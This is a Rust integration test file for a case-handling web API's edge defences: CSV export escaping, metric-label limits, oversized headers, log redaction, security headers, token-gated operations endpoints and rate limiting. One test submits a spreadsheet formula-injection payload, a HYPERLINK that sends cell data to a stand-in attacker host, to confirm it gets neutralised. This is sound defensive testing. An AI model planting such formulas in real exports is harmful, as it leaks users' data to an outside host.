//! The edge: CSV cells a spreadsheet cannot run, metric labels no client can multiply, a
//! problem+json 431, query strings kept out of the log, the headers every answer carries,
//! operations detail behind a token or on its own listener, capped long polls and rate limits
//! answering 429 with `Retry-After`.

use std::time::Duration;

use reqwest::Method;
use serde_json::json;
use store::testing::TestDatabase;
use store::{AppendRequest, EventMetadata, ExpectedVersion, NewEvent, StreamRef};

use crate::helpers::{
    Answer, JAMTLAND, TestApp, jamtland_application, logs, spawn_app, spawn_with,
};

/// The samples of `/metrics` (lines that are not comments).
async fn samples(app: &TestApp) -> Vec<String> {
    let metrics = app.ops_get("/metrics").await;
    assert_eq!(metrics.status, 200, "{}", metrics.text);
    metrics
        .text
        .lines()
        .filter(|line| !line.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas() {
    let app = spawn_app().await;
    let mut application = jamtland_application();
    application["unit_name"] = json!("=HYPERLINK(\"https://evil.example/?\"&A1,\"Öppna\")");
    let submitted = app
        .post("/v1/cases", &app.provider(), &application, None, None)
        .await;
    assert_eq!(submitted.status, 201, "{}", submitted.text);
    let position = submitted.json()["position"].as_u64().unwrap();
    let answer = app
        .send(
            app.client
                .get(format!("{}/v1/cases?min_position={position}", app.address))
                .bearer_auth(app.officer())
                .header("Accept", "text/csv"),
        )
        .await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = headers.iter().position(|h| h == "unit_name").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(
        &rows[0][column], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Öppna\")",
        "the cell is prefixed with ' and read back whole: {}",
        answer.text
    );
    assert!(
        !answer.text.contains(",=") && !answer.text.contains("\"="),
        "no cell starts with =: {}",
        answer.text
    );
    // JSON carries the name as it was sent.
    let json = app
        .get(
            &format!("/v1/cases?min_position={position}"),
            &app.officer(),
        )
        .await;
    assert!(json.text.contains("=HYPERLINK"), "{}", json.text);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn made_up_methods_and_paths_add_no_metric_series() {
    let app = spawn_app().await;
    let officer = app.officer();
    // One request of each kind, so that the labels they use exist.
    app.send(
        app.client
            .request(
                Method::from_bytes(b"WARMUP").unwrap(),
                format!("{}/v1/nowhere", app.address),
            )
            .bearer_auth(&officer),
    )
    .await;
    app.get("/v1/nowhere-else", &officer).await;
    app.send(
        app.client
            .request(
                Method::from_bytes(b"WARMUP").unwrap(),
                format!("{}/v1/cases", app.address),
            )
            .bearer_auth(&officer),
    )
    .await;
    samples(&app).await;
    let before = samples(&app).await;
    for n in 0..20 {
        let method = Method::from_bytes(format!("M{n}{}", "X".repeat(200)).as_bytes()).unwrap();
        let answer = app
            .send(
                app.client
                    .request(method, format!("{}/v1/cases", app.address))
                    .bearer_auth(&officer),
            )
            .await;
        answer.assert_problem(405, "method_not_allowed");
        let answer = app
            .send(
                app.client
                    .request(
                        Method::from_bytes(format!("Q{n}").as_bytes()).unwrap(),
                        format!("{}/made/up/{n}/{}", app.address, "p".repeat(100)),
                    )
                    .bearer_auth(&officer),
            )
            .await;
        answer.assert_problem(404, "not_found");
        app.get(&format!("/v1/made-up-{n}"), &officer)
            .await
            .assert_problem(404, "not_found");
    }
    let after = samples(&app).await;
    let series = |samples: &[String]| {
        samples
            .iter()
            .filter(|s| s.starts_with("anslut_http_"))
            .map(|s| s.rsplit_once(' ').unwrap().0.to_owned())
            .collect::<std::collections::BTreeSet<_>>()
    };
    let added: Vec<String> = series(&after)
        .difference(&series(&before))
        .cloned()
        .collect();
    assert!(added.is_empty(), "60 requests added series: {added:#?}");
    assert!(
        after
            .iter()
            .all(|s| !s.contains("XXXXXXXX") && !s.contains("/made/up")),
        "no made-up method or path is a label"
    );
    assert!(
        after
            .iter()
            .any(|s| s.contains("method=\"other\"") && s.contains("route=\"unmatched\"")),
        "{after:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_authorization_header_gets_a_problem_431() {
    let app = spawn_app().await;
    let answer = app
        .send(app.client.get(format!("{}/v1/cases", app.address)).header(
            "Authorization",
            format!("Bearer {}", "a".repeat(100 * 1024)),
        ))
        .await;
    answer.assert_problem(431, "request_header_fields_too_large");
    assert!(answer.json()["detail"].as_str().unwrap().contains("32768"));
    assert!(
        answer.header("www-authenticate").is_none(),
        "the credentials were not looked at"
    );
    assert!(!answer.text.contains("aaaa"), "{}", answer.text);
    // Many small headers add up the same way.
    let mut request = app.client.get(format!("{}/healthz", app.address));
    for n in 0..40 {
        request = request.header(format!("x-filler-{n}"), "f".repeat(1000));
    }
    app.send(request)
        .await
        .assert_problem(431, "request_header_fields_too_large");
    // A head under the limit is served.
    let answer = app
        .send(
            app.client
                .get(format!("{}/v1/catalogues", app.address))
                .header("Authorization", format!("Bearer {}", "a".repeat(16 * 1024))),
        )
        .await;
    answer.assert_problem(401, "invalid_token");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_in_the_query_string_never_reaches_the_log() {
    let app = spawn_app().await;
    let token = app.officer();
    let marker = "q7Zt2LlqueryMarker";
    for path in [
        format!("/v1/cases?access_token={token}&{marker}=1"),
        format!("/v1/feed?after=0&access_token={token}&{marker}=1"),
        format!("/v1/no-such-route?access_token={token}&{marker}=1"),
        format!("/v1/cases?limit=nonsense&access_token={token}&{marker}=1"),
    ] {
        app.get(&path, &token).await;
    }
    let logs = logs();
    let signature = token.rsplit('.').next().unwrap();
    assert!(!logs.contains(signature), "the token was logged");
    assert!(!logs.contains(marker), "a query string was logged");
    assert!(
        logs.lines()
            .any(|line| line.contains("\"http.target\":\"/v1/no-such-route\"")),
        "the path is logged"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_answer_says_nosniff_and_personal_data_is_never_stored_by_caches() {
    let app = spawn_app().await;
    let case = app.submit_jamtland().await;
    let officer = app.officer();
    let answers: Vec<(&str, Answer)> = vec![
        (
            "case",
            app.get(&format!("/v1/cases/{case}"), &officer).await,
        ),
        (
            "history",
            app.get(&format!("/v1/cases/{case}/history"), &officer)
                .await,
        ),
        ("feed", app.get("/v1/feed", &officer).await),
        ("missing", app.get("/v1/nothing", &officer).await),
        (
            "unauthenticated",
            app.send(app.client.get(format!("{}/v1/cases", app.address)))
                .await,
        ),
        (
            "healthz",
            app.send(app.client.get(format!("{}/healthz", app.address)))
                .await,
        ),
        ("openapi", app.get("/openapi.json", &officer).await),
    ];
    for (what, answer) in answers {
        assert_eq!(
            answer.header("x-content-type-options").as_deref(),
            Some("nosniff"),
            "{what}"
        );
        assert_eq!(
            answer.header("cache-control").as_deref(),
            Some("no-store"),
            "{what}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_and_readiness_detail_need_the_operations_token() {
    let app = spawn_app().await;
    app.submit_jamtland().await;
    let open = |path: &str| app.send(app.client.get(format!("{}{path}", app.address)));

    let metrics = open("/metrics").await;
    metrics.assert_problem(401, "unauthenticated");
    assert!(!metrics.text.contains("anslut_"), "{}", metrics.text);
    let wrong = app
        .send(
            app.client
                .get(format!("{}/metrics", app.address))
                .bearer_auth("test-operations-token-0123456789abcdeX"),
        )
        .await;
    wrong.assert_problem(401, "unauthenticated");
    // An API token is not the operations token.
    let officer = app
        .send(
            app.client
                .get(format!("{}/metrics", app.address))
                .bearer_auth(app.officer()),
        )
        .await;
    officer.assert_problem(401, "unauthenticated");
    let metrics = app.ops_get("/metrics").await;
    assert_eq!(metrics.status, 200);
    assert!(metrics.text.contains("anslut_http_requests_total"));

    // Readiness: the bare status for anyone, the detail with the token.
    let bare = open("/readyz").await;
    assert_eq!(bare.status, 200, "{}", bare.text);
    assert_eq!(bare.json(), json!({"status": "ok"}));
    let detail = app.ops_get("/readyz").await;
    assert_eq!(detail.status, 200, "{}", detail.text);
    assert_eq!(detail.json()["head"], 1);
    assert!(detail.json()["webhooks"].is_object());
    let health = open("/healthz").await;
    assert_eq!(health.json(), json!({"status": "ok"}));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unready_instance_tells_only_the_operations_token_why() {
    let app = spawn_app().await;
    // An event no read model can apply stops them: not ready.
    app.state
        .store
        .append(AppendRequest {
            stream: StreamRef::new("connection_case", uuid::Uuid::now_v7().to_string()),
            expected: ExpectedVersion::Exact(0),
            metadata: EventMetadata::new(uuid::Uuid::now_v7(), None),
            events: vec![NewEvent {
                event_type: "ApplicationSubmitted".into(),
                event_version: "1".into(),
                payload: json!({"nonsense": true}),
            }],
            snapshot: None,
        })
        .await
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    let detail = loop {
        let detail = app.ops_get("/readyz").await;
        if detail.status == 503 || std::time::Instant::now() > deadline {
            break detail;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    detail.assert_problem(503, "not_ready");
    assert!(detail.json()["projections"].is_array(), "{}", detail.text);
    let bare = app
        .send(app.client.get(format!("{}/readyz", app.address)))
        .await;
    bare.assert_problem(503, "not_ready");
    assert!(bare.header("retry-after").is_some());
    let body = bare.json();
    let members: Vec<&String> = body.as_object().unwrap().keys().collect();
    assert_eq!(
        members,
        ["code", "detail", "status", "title", "type"],
        "nothing but the problem: {}",
        bare.text
    );
    assert!(
        !bare.text.contains("position") && !bare.text.contains("case_overview"),
        "{}",
        bare.text
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_operations_listener_serves_operations_only_and_without_a_token() {
    let app = spawn_with(TestDatabase::postgres().await, |settings| {
        settings.ops.token = None;
        settings.ops.listen = Some("127.0.0.1:0".into());
    })
    .await;
    let ops = app.ops_address.clone().expect("an operations listener");
    let get = |url: String| app.send(app.client.get(url));
    let metrics = get(format!("{ops}/metrics")).await;
    assert_eq!(metrics.status, 200, "{}", metrics.text);
    assert!(metrics.text.contains("anslut_"));
    let ready = get(format!("{ops}/readyz")).await;
    assert_eq!(ready.status, 200);
    assert!(ready.json()["head"].is_u64(), "{}", ready.text);
    assert_eq!(get(format!("{ops}/healthz")).await.status, 200);
    // The API is not served there.
    let api = app
        .send(
            app.client
                .get(format!("{ops}/v1/catalogues"))
                .bearer_auth(app.officer()),
        )
        .await;
    api.assert_problem(404, "not_found");
    // And the API's port serves no metrics.
    get(format!("{}/metrics", app.address))
        .await
        .assert_problem(404, "not_found");
    let bare = get(format!("{}/readyz", app.address)).await;
    assert_eq!(bare.json(), json!({"status": "ok"}));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn long_polls_are_capped_per_caller_and_in_all() {
    let app = spawn_with(TestDatabase::postgres().await, |settings| {
        settings.limits.long_polls = 2;
        settings.limits.long_polls_per_caller = 1;
    })
    .await;
    let officer = app.officer();
    let auditor = app.token("auditor", JAMTLAND, None);
    let dashboard = app.token("dashboard", JAMTLAND, None);
    let poll = |token: String| {
        let request = app
            .client
            .get(format!("{}/v1/feed?wait=10", app.address))
            .bearer_auth(token);
        tokio::spawn(async move { request.send().await.unwrap().status().as_u16() })
    };
    let first = poll(officer.clone());
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while app.state.long_polls.waiting() < 1 {
        assert!(
            std::time::Instant::now() < deadline,
            "the poll never waited"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let again = app.get("/v1/feed?wait=10", &officer).await;
    again.assert_problem(429, "too_many_long_polls");
    assert_eq!(again.header("retry-after").as_deref(), Some("1"));
    // A poll that does not wait is not capped.
    assert_eq!(app.get("/v1/feed", &officer).await.status, 200);
    let second = poll(auditor);
    while app.state.long_polls.waiting() < 2 {
        assert!(
            std::time::Instant::now() < deadline,
            "the poll never waited"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    app.get("/v1/feed?wait=10", &dashboard)
        .await
        .assert_problem(429, "too_many_long_polls");
    // A commit answers the waiting polls and frees their places.
    app.submit_jamtland().await;
    assert_eq!(first.await.unwrap(), 200);
    assert_eq!(second.await.unwrap(), 200);
    assert_eq!(app.state.long_polls.waiting(), 0);
    assert_eq!(app.get("/v1/feed?wait=1", &dashboard).await.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_of_commits_wakes_the_long_polls_once_per_window() {
    let app = spawn_with(TestDatabase::postgres().await, |settings| {
        settings.limits.long_poll_coalesce_milliseconds = 1000;
    })
    .await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    let before = app.state.feed.wakeups();
    for _ in 0..30 {
        app.state
            .store
            .append(AppendRequest {
                stream: StreamRef::new("test_stream", uuid::Uuid::now_v7().to_string()),
                expected: ExpectedVersion::Exact(0),
                metadata: EventMetadata::new(uuid::Uuid::now_v7(), None),
                events: vec![NewEvent {
                    event_type: "Tested".into(),
                    event_version: "1".into(),
                    payload: json!({"n": 1}),
                }],
                snapshot: None,
            })
            .await
            .unwrap();
    }
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let woken = app.state.feed.wakeups() - before;
    assert!(
        (1..=4).contains(&woken),
        "30 commits woke the polls {woken} times"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn too_many_commands_from_one_caller_get_429_with_retry_after() {
    let app = spawn_with(TestDatabase::postgres().await, |settings| {
        settings.limits.commands_per_second = 1;
        settings.limits.commands_burst = 2;
    })
    .await;
    let provider = app.provider();
    let body = jamtland_application();
    let submit = || app.post("/v1/cases", &provider, &body, None, None);
    assert_eq!(submit().await.status, 201);
    assert_eq!(submit().await.status, 201);
    let refused = submit().await;
    refused.assert_problem(429, "too_many_requests");
    let retry: u64 = refused.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=2).contains(&retry), "{retry}");
    assert_eq!(app.head().await, 2, "the refused command wrote nothing");
    // Reads are not counted; another caller has its own budget.
    assert_eq!(app.get("/v1/catalogues", &provider).await.status, 200);
    let other = app.token("provider", JAMTLAND, Some(crate::helpers::OTHER_ORG));
    let mut application = jamtland_application();
    application["org_number"] = json!(crate::helpers::OTHER_ORG);
    assert_eq!(
        app.post("/v1/cases", &other, &application, None, None)
            .await
            .status,
        201
    );
    tokio::time::sleep(Duration::from_secs(retry)).await;
    assert_eq!(submit().await.status, 201, "the budget refills");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_that_keeps_failing_authentication_gets_429_before_its_token_is_read() {
    let app = spawn_with(TestDatabase::postgres().await, |settings| {
        settings.limits.failed_auth_per_minute = 6;
        settings.limits.failed_auth_burst = 3;
    })
    .await;
    for _ in 0..3 {
        app.get("/v1/catalogues", "not.a.token")
            .await
            .assert_problem(401, "invalid_token");
    }
    // The failure past the burst is answered 429 already.
    let refused = app.get("/v1/catalogues", "not.a.token").await;
    refused.assert_problem(429, "too_many_requests");
    let retry: u64 = refused.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=10).contains(&retry), "{retry}");
    // Even a valid token from the address waits: nothing is verified meanwhile.
    app.get("/v1/catalogues", &app.officer())
        .await
        .assert_problem(429, "too_many_requests");
    // Operations stay open.
    assert_eq!(
        app.send(app.client.get(format!("{}/healthz", app.address)))
            .await
            .status,
        200
    );
    assert_eq!(app.ops_get("/metrics").await.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_subject_lookups_are_limited_per_caller() {
    let app = spawn_with(TestDatabase::postgres().await, |settings| {
        settings.limits.privacy_per_minute = 2;
        settings.limits.privacy_burst = 2;
    })
    .await;
    let officer = app.officer();
    let body = json!({"personnummer": "19811218-9876"});
    let lookup = || app.post("/v1/privacy/subjects/lookup", &officer, &body, None, None);
    for _ in 0..2 {
        let answer = lookup().await;
        assert_ne!(answer.status, 429, "{}", answer.text);
    }
    let refused = lookup().await;
    refused.assert_problem(429, "too_many_requests");
    assert!(refused.header("retry-after").is_some());
    // A read is not a lookup.
    assert_eq!(app.get("/v1/catalogues", &officer).await.status, 200);
}
